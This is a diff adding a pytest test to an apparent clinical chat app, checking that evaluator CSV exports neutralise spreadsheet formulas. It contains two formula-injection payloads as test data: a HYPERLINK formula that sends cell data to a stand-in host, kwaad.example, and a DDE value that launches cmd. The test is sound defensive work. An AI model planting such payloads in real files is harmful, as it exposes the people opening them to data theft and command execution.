@@ -91,3 +91,26 @@ def test_only_evaluators_export(sign_in: SignIn) -> None:
 
     assert ann.get("/api/evaluator/feedback.csv").status_code == 403
     assert ann.get("/api/evaluator/feedback-set.csv").status_code == 403
+
+
+FORMULA = '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik hier")'
+
+
+def test_formulas_in_questions_and_titles_export_inert_and_read_back_as_asked(
+    sign_in: SignIn, api_settings: ApiSettings
+) -> None:
+    """A spreadsheet opening an export must not run what a user typed (or a PDF's title says)."""
+    ann, eva = sign_in("ann", Role.clinician), sign_in("eva", Role.evaluator)
+    conversation = ann.post("/api/conversations", json={}).json()["id"]
+    sources = [source("doc-a", "@SUM(1+1)*cmd|' /C calc'!A0", 3), source("doc-b", "\tTab", 1)]
+    message = store_answer(api_settings.database_url, conversation, FORMULA, sources)
+    ann.put(f"/api/messages/{message}/feedback/doc-a", json={"contains_answer": True})
+
+    feedback_rows = list(csv.DictReader(io.StringIO(eva.get("/api/evaluator/feedback.csv").text)))
+    feedback_set = eva.get("/api/evaluator/feedback-set.csv").text
+    set_rows = list(csv.DictReader(io.StringIO(feedback_set)))
+
+    assert {row["question"] for row in feedback_rows} == {"'" + FORMULA}
+    assert [row["title"] for row in feedback_rows] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'\tTab"]
+    assert [row["question"] for row in set_rows] == ["'" + FORMULA]
+    assert [query.question for query in parse_csv(feedback_set)] == [FORMULA]
